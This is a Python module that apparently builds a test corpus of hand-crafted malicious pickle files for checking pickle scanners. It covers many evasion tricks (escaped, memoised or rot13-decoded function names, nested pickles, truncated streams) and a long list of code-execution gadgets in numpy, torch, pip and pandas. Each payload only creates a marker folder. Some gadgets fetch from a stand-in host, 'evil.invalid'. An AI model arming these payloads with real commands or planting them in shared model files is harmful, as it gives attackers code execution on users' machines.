"""Hostile pickles, put together by hand: ways to name a dangerous function that a scanner may not see, and gadgets.

Were one loaded, it would create the folder `marker`. Every payload does no more than that. Sources are the public
advisories of scanners and loaders; the bytes are put together here.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Sample:
    """One file: its name, and its bytes for a marker."""

    name: str
    about: str
    build: Callable[[str], bytes]


SAMPLES: list[Sample] = []


def sample(name: str, about: str) -> Callable[[Callable[[str], bytes]], Callable[[str], bytes]]:
    def add(build: Callable[[str], bytes]) -> Callable[[str], bytes]:
        SAMPLES.append(Sample(name, about, build))
        return build

    return add


# -- pickles by hand


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def ask(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def ask4(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *arguments: str | bytes, protocol: int = 4) -> bytes:
    """A whole pickle that calls `module.name` with texts, or with values whose opcodes are given."""
    packed = b"".join(one if isinstance(one, bytes) else text(one) for one in arguments)
    asked = ask4(module, name) if protocol >= 4 else ask(module, name)
    return b"\x80" + bytes([protocol]) + asked + b"(" + packed + b"tR."


def command(marker: str) -> str:
    return f"mkdir {marker}"


def python(marker: str) -> str:
    return f"__import__('os').mkdir({marker!r})"


def system(marker: str) -> bytes:
    """The plainest of all."""
    return call("os", "system", command(marker))


@sample("global_p0.pkl", "protocol 0, GLOBAL, REDUCE")
def gadget_p0(marker: str) -> bytes:
    return f"cos\nsystem\n(S'{command(marker)}'\ntR.".encode()


@sample("inst_p0.pkl", "protocol 0, INST")
def _inst(marker: str) -> bytes:
    return f"(S'{command(marker)}'\nios\nsystem\n.".encode()


@sample("posix_p2.bin", "protocol 2, os by its other name")
def _posix(marker: str) -> bytes:
    return call("posix", "system", command(marker), protocol=2)


@sample("stack_global.pkl", "protocol 4, STACK_GLOBAL")
def _stack_global(marker: str) -> bytes:
    return system(marker)


@sample("memoised_names.pkl", "the name's texts come out of the memo, other texts lie between")
def _memoised(marker: str) -> bytes:
    return (
        b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940" + text("collections") + b"0" + text("OrderedDict")
        + b"0h\x00h\x01\x93(" + text(command(marker)) + b"tR."
    )  # fmt: skip


@sample("duplicated_names.pkl", "the name's texts are duplicated, dropped and put again under other numbers")
def _duplicated(marker: str) -> bytes:
    return (
        b"\x80\x04" + text("os") + b"r\xff\x00\x00\x0020" + text("system") + b"q\x072010"[:2] + b"0"
        + b"j\xff\x00\x00\x00h\x07\x93" + text(command(marker)) + b"\x85R."
    )  # fmt: skip


@sample("escaped_names.pkl", "the name's texts are protocol 0 strings with escapes")
def _escaped(marker: str) -> bytes:
    return b"S'\\x6fs'\nS'sys\\164em'\n\x93" + text(command(marker)) + b"\x85R."


@sample("unicode_names.pkl", "the name's texts are protocol 0 texts with escapes")
def _unicode(marker: str) -> bytes:
    return b"V\\u006fs\nVs\\u0079stem\n\x93" + text(command(marker)) + b"\x85R."


@sample("old_strings.pkl", "the name's texts are strings of Python 2, which loaders take for text")
def _old_strings(marker: str) -> bytes:
    return b"U\x02osT\x06\x00\x00\x00system\x93" + text(command(marker)) + b"\x85R."


@sample("training_args.bin", "a class that is harmless when restored, called with a path")
def _training_args(marker: str) -> bytes:
    return call("transformers.training_args", "TrainingArguments", "/tmp/deepspeed.json")


@sample("obj.pkl", "OBJ")
def _obj(marker: str) -> bytes:
    return b"\x80\x02(" + ask("os", "system") + text(command(marker)) + b"o."


@sample("newobj.pkl", "NEWOBJ")
def _newobj(marker: str) -> bytes:
    return b"\x80\x02" + ask("subprocess", "Popen") + text(command(marker)) + b"\x85\x81."


@sample("newobj_ex.pkl", "NEWOBJ_EX with keywords")
def _newobj_ex(marker: str) -> bytes:
    return b"\x80\x04" + ask4("subprocess", "Popen") + text(command(marker)) + b"\x85}" + text("shell") + b"\x88s\x92."


@sample("build_on_class.pkl", "BUILD sets an attribute of a class that others use")
def _build(marker: str) -> bytes:
    return b"\x80\x04" + ask4("collections", "OrderedDict") + b"N}" + text("keys") + ask4("os", "system") + b"s\x86b."


@sample("extension_code.pkl", "EXT1: a name that copyreg has registered")
def _ext(marker: str) -> bytes:
    return b"\x80\x02\x82\x01" + text(command(marker)) + b"\x85R."


@sample("second_pickle.pkl", "a harmless pickle, and another behind it")
def _second(marker: str) -> bytes:
    return pickle.dumps({"weights": [0.0] * 8}) + system(marker)


@sample("truncated.pkl", "ends before STOP, when all has run")
def _truncated(marker: str) -> bytes:
    return system(marker)[:-1]


@sample("broken_after_call.pkl", "an opcode that does not exist, when all has run")
def _broken(marker: str) -> bytes:
    return system(marker)[:-1] + b"\xff\xff\xff"


@sample("underflow_after_call.bin", "takes from an empty stack, when all has run")
def _underflow(marker: str) -> bytes:
    return system(marker)[:-1] + b"000."


@sample("nested_bytes.pkl", "a pickle within bytes, for pickle.loads")
def _nested(marker: str) -> bytes:
    inner = system(marker)
    return call("pickle", "loads", b"B" + struct.pack("<I", len(inner)) + inner)


@sample("nested_for_torch.pkl", "a pickle within bytes, for torch.storage._load_from_bytes")
def _nested_torch(marker: str) -> bytes:
    inner = system(marker)
    return call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(inner)) + inner)


@sample("nested_unused.pkl", "a pickle within bytes that nothing here loads: the program would")
def _nested_unused(marker: str) -> bytes:
    return pickle.dumps({"state": system(marker)})


@sample("computed_name.pkl", "the name is decoded while loading (rot13)")
def _computed(marker: str) -> bytes:
    decoded = ask("_codecs", "decode") + text("flfgrz") + text("rot13") + b"\x86R"
    return b"\x80\x04" + text("os") + decoded + b"\x93" + text(command(marker)) + b"\x85R."


@sample("computed_harmlessly.pkl", "the name is made with names that are allowed (_codecs.encode, str)")
def _computed_allowed(marker: str) -> bytes:
    made = (
        ask("builtins", "str")
        + ask("_codecs", "encode")
        + text("system")
        + text("utf-8")
        + b"\x86R"
        + text("utf-8")
        + b"\x86R"
    )
    return b"\x80\x04" + text("os") + made + b"\x93" + text(command(marker)) + b"\x85R."


@sample("getattr_chain.pkl", "getattr on a module that looks harmless")
def _getattr(marker: str) -> bytes:
    return call("builtins", "getattr", ask4("torch", "serialization"), "os")


@sample("dotted_name.pkl", "an allowed class's way to every module")
def _dotted(marker: str) -> bytes:
    return call("collections", "OrderedDict.__init__.__globals__", command(marker))


@sample("python2_name.pkl", "a name of Python 2, which loaders map")
def _python2(marker: str) -> bytes:
    return call("commands", "getoutput", command(marker), protocol=2)


@sample("python2_builtin.pkl", "execfile of Python 2's builtins")
def _python2_builtin(marker: str) -> bytes:
    return call("__builtin__", "eval", python(marker), protocol=2)


@sample("odd_numbers.pkl", "numbers in text form that disassemblers refuse and loaders take")
def _odd_numbers(marker: str) -> bytes:
    return b"I 1_0 \n0L0x10L\n0" + f"cos\nsystem\n(S'{command(marker)}'\ntR.".encode()


@sample("odd_frames.pkl", "frames that lie, protocols stated again and again")
def _odd_frames(marker: str) -> bytes:
    return b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00\x80\x02\x80\x05" + system(marker)[2:]


@sample("string_quotes.pkl", "a protocol 0 string whose quotes disassemblers refuse")
def _string_quotes(marker: str) -> bytes:
    return f"S'a\\'\n0cos\nsystem\n(V{command(marker)}\ntR.".encode()


def _gadget(name: str, module: str, function: str, *arguments: str | bytes) -> None:
    def build(marker: str) -> bytes:
        filled = [
            one.replace("$COMMAND", command(marker)).replace("$PYTHON", python(marker)) if isinstance(one, str) else one
            for one in arguments
        ]
        return call(module, function, *filled)

    SAMPLES.append(Sample(f"gadget_{name}.pkl", f"{module}.{function}", build))


for _row in (
    ("f2py", "numpy.f2py.crackfortran", "getlincoef", "$PYTHON", "x"),
    ("runstring", "numpy.testing._private.utils", "runstring", "$PYTHON", b"}"),
    ("pip", "pip._internal.cli.main", "main", b"]", "install"),
    ("pip_main", "pip", "main", b"]"),
    ("runpy", "runpy", "_run_code", "$PYTHON", b"}"),
    ("ctypes", "ctypes", "CDLL", "./libevil.so"),
    ("attrgetter", "operator", "attrgetter", "system"),
    ("methodcaller", "_operator", "methodcaller", "system", "$COMMAND"),
    ("partial", "functools", "partial", b"N"),
    ("importlib", "importlib", "import_module", "evil"),
    ("pydoc_locate", "pydoc", "locate", "os.system"),
    ("pydoc_pager", "pydoc", "pipepager", "x", "$COMMAND"),
    ("timeit", "timeit", "timeit", "$PYTHON"),
    ("cprofile", "cProfile", "run", "$PYTHON"),
    ("code", "code", "InteractiveInterpreter.runcode", "$PYTHON"),
    ("idlelib", "idlelib.run", "Executive.runcode", "$PYTHON"),
    ("idlelib_calltip", "idlelib.calltip", "get_entity", "$PYTHON"),
    ("asyncio", "asyncio.unix_events", "_UnixSubprocessTransport._start", "$COMMAND"),
    ("bdb", "bdb", "Bdb.run", "$PYTHON"),
    ("trace", "trace", "Trace.run", "$PYTHON"),
    ("webbrowser", "webbrowser", "open", "http://evil.invalid"),
    ("urllib", "urllib.request", "urlretrieve", "http://evil.invalid", "/tmp/x"),
    ("shutil", "shutil", "rmtree", "/nonexistent"),
    ("fork_exec", "_posixsubprocess", "fork_exec", "$COMMAND"),
    ("torch_hub", "torch.hub", "load", "evil/repo", "model"),
    ("exec_wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", "$PYTHON", b"}", b"}"),
    ("torch_load", "torch.serialization", "load", "other.bin"),
    ("torch_config", "torch.utils._config_module", "ConfigModule.load_config", b"C\x01a"),
    ("collect_env", "torch.utils.collect_env", "run", "$COMMAND"),
    ("guards", "torch._dynamo.guards", "GuardBuilder.get", "$PYTHON"),
    ("inductor", "torch._inductor.codecache", "compile_file", "", "", "$COMMAND"),
    ("uuid", "uuid", "_get_command_stdout", "$COMMAND"),
    ("file_io", "_io", "FileIO", "/etc/passwd"),
    ("file_handler", "logging", "FileHandler", "/tmp/created-by-a-model"),
    ("imaplib", "imaplib", "IMAP4_stream", "$COMMAND"),
    ("resolve_name", "pkgutil", "resolve_name", "os:system"),
    ("lib2to3", "lib2to3.pgen2.grammar", "Grammar.loads", b"C\x01a"),
    ("code_type", "types", "CodeType", b"K\x00"),
    ("marshal", "marshal", "loads", b"C\x01a"),
    ("cloudpickle", "cloudpickle.cloudpickle", "_make_function", b"N"),
    ("dill", "dill._dill", "_create_code", b"N"),
    ("pandas", "pandas", "eval", "$PYTHON"),
    ("pandas_pickle", "pandas.io.pickle", "read_pickle", "http://evil.invalid/x.pkl"),
    ("sympy", "sympy.core.sympify", "sympify", "$PYTHON"),
    ("doctest", "doctest", "debug_script", "$PYTHON"),
    ("ensurepip", "ensurepip", "_run_pip", b"]"),
    ("aix", "_aix_support", "_read_cmd_output", "$COMMAND"),
    ("site_packages", "distutils.file_util", "write_file", "/tmp/x", b"]"),
    ("keras_get_file", "keras.utils", "get_file", "x", "http://evil.invalid"),
    ("unheard_of", "acme_models.loaders", "build", "$COMMAND"),
    ("unheard_of_runner", "acme_models.tools", "run_cmd", "$COMMAND"),
):
    _gadget(*_row)
